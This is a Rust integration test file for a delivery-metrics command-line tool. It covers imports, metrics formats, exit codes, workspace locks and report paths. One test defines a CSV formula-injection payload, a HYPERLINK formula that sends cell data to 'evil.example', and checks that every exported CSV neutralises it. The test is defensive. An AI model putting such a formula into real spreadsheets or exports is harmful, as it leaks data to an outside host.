//! The binary end to end: commands, output formats and exit codes.

use std::fs;
use std::path::Path;

use flowgauge::store::Workspace;

use crate::helpers::{flowgauge, text};

const CONFIG: &str = "[analysis]\nsince = \"2025-01-01\"\nuntil = \"2025-04-01\"\n[[services]]\nname = \"checkout\"\n";
const DEPLOYS: &str = "\
id,service,environment,started_at,finished_at,status,commits
1,checkout,production,2025-01-06T10:00:00Z,2025-01-06T10:10:00Z,success,aaa
2,checkout,production,2025-01-08T10:00:00Z,2025-01-08T10:10:00Z,success,bbb
";
const CHANGES: &str = "\
id,title,author,created_at,first_commit_at,merged_at,merge_commit_sha
1,<b>First</b>,alice,2025-01-05T10:00:00Z,2025-01-05T08:00:00Z,2025-01-05T12:00:00Z,aaa
2,Second,bob,2025-01-07T09:00:00Z,2025-01-07T08:00:00Z,2025-01-07T09:30:00Z,bbb
3,Never,bob,2025-01-07T09:00:00Z,,,
";

fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("flowgauge.toml"), CONFIG).unwrap();
    fs::write(dir.path().join("deploys.csv"), DEPLOYS).unwrap();
    fs::write(dir.path().join("changes.csv"), CHANGES).unwrap();
    dir
}

fn ok(dir: &Path, args: &[&str]) -> String {
    let out = flowgauge(dir, args);
    assert!(out.status.success(), "{args:?} failed: {}", text(&out.stderr));
    text(&out.stdout)
}

fn code(dir: &Path, args: &[&str]) -> (i32, String) {
    let out = flowgauge(dir, args);
    (out.status.code().unwrap_or(-1), text(&out.stderr))
}

fn imported() -> tempfile::TempDir {
    let dir = project();
    ok(dir.path(), &["import", "deploys.csv", "--kind", "deployments", "--service", "checkout"]);
    ok(dir.path(), &["import", "changes.csv", "--kind", "changes", "--service", "checkout"]);
    dir
}

#[test]
fn import_then_metrics_in_every_format() {
    let dir = imported();
    let table = ok(dir.path(), &["metrics"]);
    assert!(table.contains("checkout"), "{table}");
    assert!(table.contains("2025-Q1"), "{table}");
    // c1: 08:00 5 Jan → 10:10 6 Jan = 26.2 h; c2: 08:00 7 Jan → 10:10 8 Jan = 26.2 h.
    assert!(table.contains("26.2 h"), "{table}");
    let json: serde_json::Value = serde_json::from_str(&ok(dir.path(), &["metrics", "--format", "json"])).unwrap();
    assert_eq!(json["schema"], "flowgauge.metrics/1");
    let service = &json["services"][0];
    assert_eq!(service["service"], "checkout");
    assert_eq!(service["window"]["deployment_frequency"]["deployments"], 2);
    assert_eq!(service["window"]["lead_time"]["changes"], 2);
    assert_eq!(service["window"]["levels"]["lead_time"]["confidence"], "low");
    assert_eq!(service["quarter"].as_array().unwrap().len(), 1);
    assert_eq!(service["month"].as_array().unwrap().len(), 3);
    let csv = ok(dir.path(), &["metrics", "--format", "csv"]);
    let mut lines = csv.lines();
    assert!(lines.next().unwrap().starts_with("service,grain,period,"));
    // window + 1 quarter + 3 months + 14 weeks overlapping the window.
    assert_eq!(lines.count(), 1 + 1 + 3 + 14);
}

#[test]
fn explain_shows_what_counted_and_why_not() {
    let dir = imported();
    let out = ok(dir.path(), &["explain", "lead-time", "--service", "checkout"]);
    assert!(out.contains("counted: 2"), "{out}");
    assert!(out.contains("excluded, not merged: 1"), "{out}");
    let csv = ok(dir.path(), &["explain", "lead-time", "--format", "csv"]);
    assert!(csv.lines().next().unwrap().contains("change_id"), "{csv}");
    assert_eq!(csv.lines().count(), 4);
}

#[test]
fn exit_codes_say_what_went_wrong() {
    let dir = imported();
    assert_eq!(code(dir.path(), &["metrics", "--period", "fortnight"]).0, 3);
    let (c, err) = code(dir.path(), &["--config", "missing.toml", "metrics"]);
    assert_eq!(c, 3, "{err}");
    fs::write(dir.path().join("bad.csv"), "id,service,environment,finished_at,status\n1,checkout,prod,never,success\n")
        .unwrap();
    let (c, err) = code(dir.path(), &["import", "bad.csv", "--kind", "deployments"]);
    assert_eq!(c, 4);
    assert!(err.contains("bad.csv:2: field `finished_at`"), "{err}");
    let (c, err) = code(dir.path(), &["metrics", "--service", "nope"]);
    assert_eq!(c, 7);
    assert!(err.contains("known services: checkout"), "{err}");
    assert_eq!(code(dir.path(), &["explain", "velocity"]).0, 7);
    assert_eq!(code(dir.path(), &["metrics", "--bogus"]).0, 2);
    let empty = project();
    let (c, err) = code(empty.path(), &["metrics"]);
    assert_eq!(c, 7);
    assert!(err.contains("holds no data yet"), "{err}");
    // Reading commands do not create a workspace as a side effect.
    assert!(!empty.path().join(".flowgauge").exists());
    let (c, err) = code(dir.path(), &["import", "missing.csv", "--kind", "incidents"]);
    assert_eq!(c, 4, "{err}");
    assert_eq!(err.matches("No such file").count(), 1, "the cause is printed once: {err}");
}

#[test]
fn a_locked_workspace_refuses_a_second_writer_but_can_be_read() {
    let dir = imported();
    let _held = Workspace::open(&dir.path().join(".flowgauge")).unwrap();
    let (c, err) = code(dir.path(), &["import", "deploys.csv", "--kind", "deployments"]);
    assert_eq!(c, 5, "{err}");
    assert!(err.contains("in use by another flowgauge run"), "{err}");
    // Reading takes no lock, so it neither waits for nor is refused by a writer.
    ok(dir.path(), &["metrics"]);
}

#[test]
fn queries_can_be_overridden_and_a_broken_one_is_named() {
    let dir = imported();
    let queries = dir.path().join("my-queries");
    fs::create_dir(&queries).unwrap();
    fs::write(
        queries.join("time_to_restore.sql"),
        "-- name: broken\n-- unit: hours\n-- grain: period\n-- requires: periods\nSELECT no_such_column FROM periods",
    )
    .unwrap();
    let (c, err) = code(dir.path(), &["metrics", "--queries", "my-queries"]);
    assert_eq!(c, 6, "{err}");
    assert!(err.contains("time_to_restore"), "{err}");
    fs::remove_file(queries.join("time_to_restore.sql")).unwrap();
    fs::write(queries.join("velocity.sql"), "-- name: x\n").unwrap();
    let (c, err) = code(dir.path(), &["metrics", "--queries", "my-queries"]);
    assert_eq!(c, 6, "{err}");
    assert!(err.contains("not a query flowgauge runs"), "{err}");
}

#[test]
fn init_writes_a_starter_that_loads_and_refuses_to_overwrite() {
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), &["init"]);
    assert!(fs::read_to_string(dir.path().join("flowgauge.toml")).unwrap().contains("[analysis]"));
    let (c, err) = code(dir.path(), &["init"]);
    assert_eq!(c, 2, "{err}");
    assert!(err.contains("--force"), "{err}");
    ok(dir.path(), &["init", "--force"]);
    // The starter has no sources: collect says so and succeeds.
    let out = flowgauge(dir.path(), &["collect"]);
    assert!(out.status.success());
    assert!(text(&out.stderr).contains("no sources configured"));
}

#[test]
fn help_shows_examples_and_exit_codes() {
    let dir = tempfile::tempdir().unwrap();
    let help = ok(dir.path(), &["--help"]);
    assert!(help.contains("Examples:"), "{help}");
    assert!(help.contains("Exit codes"), "{help}");
}

#[test]
fn a_read_only_workspace_can_be_read() {
    let dir = imported();
    let ws = dir.path().join(".flowgauge");
    // As copied from a read-only share: no lock file, nothing writable.
    fs::remove_file(ws.join("lock")).unwrap();
    set_read_only(&ws, true);
    // Root ignores permissions; then only "no lock file is created" shows the reader's path.
    let enforced = fs::write(ws.join("probe"), "").is_err();
    let result = flowgauge(dir.path(), &["metrics"]);
    let lock_created = ws.join("lock").exists();
    let _ = fs::remove_file(ws.join("probe"));
    set_read_only(&ws, false);
    assert!(result.status.success(), "enforced={enforced}: {}", text(&result.stderr));
    assert!(text(&result.stdout).contains("checkout"));
    assert!(!lock_created, "reading created a lock file");
}

fn set_read_only(dir: &Path, read_only: bool) {
    use std::os::unix::fs::PermissionsExt;
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            fs::set_permissions(&path, fs::Permissions::from_mode(if read_only { 0o444 } else { 0o644 })).unwrap();
        }
    }
    fs::set_permissions(dir, fs::Permissions::from_mode(if read_only { 0o555 } else { 0o755 })).unwrap();
}

#[test]
fn a_workspace_path_that_is_a_file_is_named() {
    let dir = project();
    fs::write(dir.path().join("ws"), "").unwrap();
    for args in [
        &["--workspace", "ws", "import", "deploys.csv", "--kind", "deployments"][..],
        &["--workspace", "ws", "metrics"],
    ] {
        let (c, err) = code(dir.path(), args);
        assert_eq!(c, 5, "{args:?}: {err}");
        assert!(err.contains("workspace ws: is a file, not a workspace directory"), "{args:?}: {err}");
    }
}

#[test]
fn a_report_into_a_directory_is_refused_and_leaves_nothing_behind() {
    let dir = imported();
    fs::create_dir(dir.path().join("out")).unwrap();
    let (c, err) = code(dir.path(), &["report", "--out", "out"]);
    assert_eq!(c, 2, "{err}");
    assert!(err.contains("--out out is a directory") && err.contains("out/report.html"), "{err}");
    let names: Vec<String> =
        fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert!(!names.iter().any(|n| n.ends_with(".tmp")), "{names:?}");
    assert_eq!(fs::read_dir(dir.path().join("out")).unwrap().count(), 0);
    // The directory a report would be written to is gone: nothing is left either.
    let (c, err) = code(dir.path(), &["report", "--out", "missing/report.html"]);
    assert_eq!(c, 1, "{err}");
    assert!(!dir.path().join("missing").exists());
}

/// A cell a spreadsheet would run: every CSV flowgauge writes must show it as text.
const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

#[test]
fn every_csv_neutralises_formulas() {
    let dir = tempfile::tempdir().unwrap();
    // No configured services: the file's own service names are used, as untrusted as titles.
    fs::write(dir.path().join("flowgauge.toml"), "[analysis]\nsince = \"2025-01-01\"\nuntil = \"2025-04-01\"\n")
        .unwrap();
    fs::write(dir.path().join("deploys.csv"), DEPLOYS.replace("checkout", "@SUM(1+1)")).unwrap();
    fs::write(
        dir.path().join("changes.csv"),
        format!(
            "id,title,author,created_at,first_commit_at,merged_at,merge_commit_sha\n\
             1,\"{}\",+alice,2025-01-05T10:00:00Z,2025-01-05T08:00:00Z,2025-01-05T12:00:00Z,aaa\n",
            FORMULA_TITLE.replace('"', "\"\"")
        ),
    )
    .unwrap();
    ok(dir.path(), &["import", "deploys.csv", "--kind", "deployments"]);
    ok(dir.path(), &["import", "changes.csv", "--kind", "changes", "--service", "@SUM(1+1)"]);
    let cells = |csv: &str| -> Vec<String> {
        csv::Reader::from_reader(csv.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect()
    };
    let explain = cells(&ok(dir.path(), &["explain", "lead-time", "--format", "csv"]));
    assert!(explain.contains(&format!("'{FORMULA_TITLE}")), "{explain:?}");
    assert!(explain.contains(&"'+alice".to_string()), "{explain:?}");
    let metrics = cells(&ok(dir.path(), &["metrics", "--format", "csv"]));
    assert!(metrics.contains(&"'@SUM(1+1)".to_string()), "{metrics:?}");
    for csv in [&explain, &metrics] {
        assert!(!csv.iter().any(|c| c.starts_with(['=', '+', '@'])), "{csv:?}");
    }
    let repo = dir.path().join("repo");
    fs::create_dir(&repo).unwrap();
    commit_to(&repo, "a.txt", "2025-01-02T09:00:00Z");
    let ownership = cells(&ok(dir.path(), &["ownership", "--repo", "repo", "--name=-evil", "--format", "csv"]));
    assert!(ownership.contains(&"'-evil".to_string()), "{ownership:?}");
}

/// Commits `file` into the git repository `repo` (made if needed), at `date`.
fn commit_to(repo: &Path, file: &str, date: &str) {
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(repo)
            .env("GIT_AUTHOR_NAME", "Alice")
            .env("GIT_AUTHOR_EMAIL", "alice@example.com")
            .env("GIT_COMMITTER_NAME", "Alice")
            .env("GIT_COMMITTER_EMAIL", "alice@example.com")
            .env("GIT_AUTHOR_DATE", date)
            .env("GIT_COMMITTER_DATE", date)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    };
    if !repo.join(".git").exists() {
        git(&["init", "-q", "-b", "main"]);
    }
    fs::write(repo.join(file), file).unwrap();
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", &format!("Add {file}")]);
    git(&["tag", &format!("v1.0.{}", fs::read_dir(repo).unwrap().count())]);
}

#[test]
fn a_report_on_one_repository_shows_only_that_repository() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["alpha", "beta"] {
        let repo = dir.path().join(name);
        fs::create_dir(&repo).unwrap();
        commit_to(&repo, "a.txt", "2025-01-02T09:00:00Z");
        commit_to(&repo, "b.txt", "2025-01-03T09:00:00Z");
    }
    let window = ["--since", "2025-01-01", "--until", "2025-04-01"];
    let report = |repo: &str| {
        let out = flowgauge(
            dir.path(),
            &[&window[..], &["-v", "report", "--repo", repo, "--format", "json", "--out", "-"]].concat(),
        );
        assert!(out.status.success(), "{}", text(&out.stderr));
        (text(&out.stdout), text(&out.stderr))
    };
    let (alpha, alpha_log) = report("alpha");
    let (beta, beta_log) = report("beta");
    assert!(alpha.contains("\"alpha\"") && !alpha.contains("\"beta\""), "alpha's report names beta");
    assert!(beta.contains("\"beta\"") && !beta.contains("\"alpha\""), "beta's report names alpha");
    assert!(alpha_log.contains(".flowgauge/repos/alpha-"), "{alpha_log}");
    assert!(beta_log.contains(".flowgauge/repos/beta-"), "{beta_log}");
    // Running again reuses the repository's own workspace: still one repository.
    let (again, _) = report("beta");
    assert!(!again.contains("\"alpha\""));
    // An explicit workspace is the user's choice: it accumulates.
    for repo in ["alpha", "beta"] {
        let out = flowgauge(
            dir.path(),
            &[&window[..], &["--workspace", "shared", "metrics", "--repo", repo, "--format", "json"]].concat(),
        );
        assert!(out.status.success(), "{}", text(&out.stderr));
    }
    let out = flowgauge(dir.path(), &["--workspace", "shared", "metrics", "--format", "json"]);
    let both = text(&out.stdout);
    assert!(both.contains("\"alpha\"") && both.contains("\"beta\""), "{both}");
    // Data imported into the shared workspace is not silently dropped: the run says it is left out.
    fs::write(dir.path().join("incidents.csv"), "id,service,opened_at\ni1,alpha,2025-01-05T10:00:00Z\n").unwrap();
    let out = flowgauge(dir.path(), &["import", "incidents.csv", "--kind", "incidents", "--service", "alpha"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let (_, log) = report("alpha");
    assert!(log.contains("the data already in .flowgauge") && log.contains("--workspace .flowgauge"), "{log}");
    // With a configuration file, the organisation's workspace is used and accumulates.
    fs::write(dir.path().join("flowgauge.toml"), "").unwrap();
    let (alpha, log) = report("alpha");
    assert!(!log.contains(".flowgauge/repos/"), "{log}");
    assert!(alpha.contains("\"alpha\"") && alpha.contains("import"), "the imported incident is included: {alpha}");
}

#[test]
fn a_file_without_rows_warns_and_names_the_columns_expected() {
    let dir = project();
    fs::write(dir.path().join("empty.csv"), "id,opened_at\n").unwrap();
    let out = flowgauge(dir.path(), &["import", "empty.csv", "--kind", "incidents", "--service", "checkout"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(err.contains("imported 0 rows from empty.csv\n"), "{err}");
    assert!(err.contains("warning: empty.csv: no rows to import") && err.contains("id, service, opened_at"), "{err}");
}
